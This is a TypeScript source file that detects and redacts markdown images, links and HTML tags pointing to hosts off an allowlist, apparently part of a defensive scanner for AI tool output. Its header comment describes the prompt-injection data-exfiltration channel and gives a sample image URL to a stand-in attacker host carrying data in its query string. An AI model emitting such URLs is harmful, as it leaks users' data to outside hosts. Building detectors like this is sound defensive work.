/**
 * `exfiltration-links`: images and links a client would render to a host that is not on the
 * allowlist. A rendered image is fetched with no click, so `![](https://evil.example/p.png?d=…)`
 * in a tool result sends whatever the model put in the query to that host; a link needs a click
 * but is the same channel.
 *
 * - Auto-loading: markdown images `![alt](url)`, reference images `![alt][ref]` (their
 *   `[ref]: url` definition is reported), and HTML `img`, `iframe`, `frame`, `image`, `video`,
 *   `audio`, `source`, `embed`, `object`, `script`, `link`: reported for any host off the list.
 * - Links: markdown `[text](url)`, autolinks `<https://…>`, HTML `<a href>`: reported when the
 *   URL carries a query string (`links: with-query`, the default, since that is where data
 *   rides), or always (`links: all`).
 * - Only http(s) and scheme-relative `//host` URLs count; relative URLs, `data:` and fragments
 *   send nothing anywhere.
 *
 * Allowlist entries are host names: `example.com` matches that host only, `*.example.com` any
 * subdomain of it. Redaction replaces the URL with `[redacted:url]` and keeps the markup.
 */
import { scanWindow, withoutOverlaps, type Detector, type DetectorHit } from './detector.ts';

export type LinkPolicy = 'with-query' | 'all';

export type ExfiltrationOptions = {
  readonly allowHosts: readonly string[];
  readonly links: LinkPolicy;
};

// Bracketed text excludes brackets, so a failed match stops at the next one: linear.
const MARKDOWN_INLINE = /(!?)\[[^[\]\n]{0,1000}\]\([ \t]{0,8}<?([^\s)<>]{1,4096})/g;
const MARKDOWN_REFERENCE_IMAGE = /!\[[^[\]\n]{0,1000}\]\[([^[\]\n]{0,200})\]/g;
const MARKDOWN_DEFINITION = /^[ ]{0,3}\[([^[\]\n]{1,200})\]:[ \t]{0,8}<?([^\s<>]{1,4096})/gm;
const AUTOLINK = /<((?:https?:)?\/\/[^\s<>]{1,4096})>/gi;
// `[^<>]` cannot run past the tag's end, so each tag costs at most its own length.
const HTML_ATTRIBUTE =
  /<(img|iframe|frame|image|video|audio|source|embed|object|script|link|a)\b[^<>]{0,2000}?\b(?:src|href|srcset|poster|data)[ \t\n]{0,4}=[ \t\n]{0,4}(["']?)([^"'\s<>]{1,4096})/gi;

type Candidate = {
  readonly start: number;
  readonly url: string;
  readonly loads: boolean;
  readonly form: string;
};

export function createExfiltrationLinksDetector(options: ExfiltrationOptions): Detector {
  const exact = new Set<string>();
  const suffixes: string[] = [];
  for (const entry of options.allowHosts) {
    const wildcard = entry.startsWith('*.');
    const host = normalizeHost(wildcard ? entry.slice(2) : entry);
    if (host === undefined) continue;
    if (wildcard) suffixes.push(`.${host}`);
    else exact.add(host);
  }
  const allowed = (host: string): boolean =>
    exact.has(host) || suffixes.some((suffix) => host.endsWith(suffix));

  return {
    name: 'exfiltration-links',
    scan(text: string): DetectorHit[] {
      const window = scanWindow(text);
      if (!window.includes('//')) return [];
      const hits: DetectorHit[] = [];
      for (const candidate of candidates(window)) {
        const url = parseNetworkUrl(candidate.url);
        if (url === undefined || allowed(url.hostname)) continue;
        const carriesQuery = url.search.length > 1;
        if (!candidate.loads && options.links === 'with-query' && !carriesQuery) continue;
        const what = candidate.loads ? `${candidate.form} that loads automatically` : candidate.form;
        hits.push({
          start: candidate.start,
          end: candidate.start + candidate.url.length,
          kind: candidate.loads ? 'image' : 'link',
          detail: `${what}, to a host not on the allowlist${carriesQuery ? ', with a query string' : ''}`,
          replacement: '[redacted:url]',
        });
      }
      return withoutOverlaps(hits);
    },
  };
}

function* candidates(text: string): Generator<Candidate> {
  for (const match of text.matchAll(MARKDOWN_INLINE)) {
    const url = match[2] ?? '';
    const start = match.index + match[0].length - url.length;
    const image = match[1] === '!';
    yield { start, url, loads: image, form: image ? 'a markdown image' : 'a markdown link' };
  }
  if (text.includes(']:')) {
    const imageRefs = new Set<string>();
    for (const match of text.matchAll(MARKDOWN_REFERENCE_IMAGE))
      imageRefs.add((match[1] ?? '').toLowerCase());
    for (const match of text.matchAll(MARKDOWN_DEFINITION)) {
      const url = match[2] ?? '';
      const image = imageRefs.has((match[1] ?? '').toLowerCase());
      const start = match.index + match[0].length - url.length;
      yield {
        start,
        url,
        loads: image,
        form: image ? 'a markdown image reference' : 'a markdown link reference',
      };
    }
  }
  for (const match of text.matchAll(AUTOLINK)) {
    const url = match[1] ?? '';
    yield { start: match.index + 1, url, loads: false, form: 'a markdown autolink' };
  }
  if (text.includes('<')) {
    for (const match of text.matchAll(HTML_ATTRIBUTE)) {
      const tag = (match[1] ?? '').toLowerCase();
      const url = match[3] ?? '';
      const start = match.index + match[0].length - url.length;
      yield { start, url, loads: tag !== 'a', form: `an HTML <${tag}>` };
    }
  }
}

/** An http(s) URL with a host, or undefined for anything that fetches nothing. */
function parseNetworkUrl(raw: string): URL | undefined {
  const absolute = raw.startsWith('//') ? `https:${raw}` : raw;
  if (!/^https?:\/\//i.test(absolute)) return undefined;
  try {
    const url = new URL(absolute);
    return url.hostname === '' ? undefined : url;
  } catch {
    return undefined;
  }
}

/** A host as the URL parser spells it (lower case, punycode), or undefined if it is not one. */
export function normalizeHost(host: string): string | undefined {
  try {
    const parsed = new URL(`https://${host}/`);
    return parsed.hostname === '' ? undefined : parsed.hostname;
  } catch {
    return undefined;
  }
}
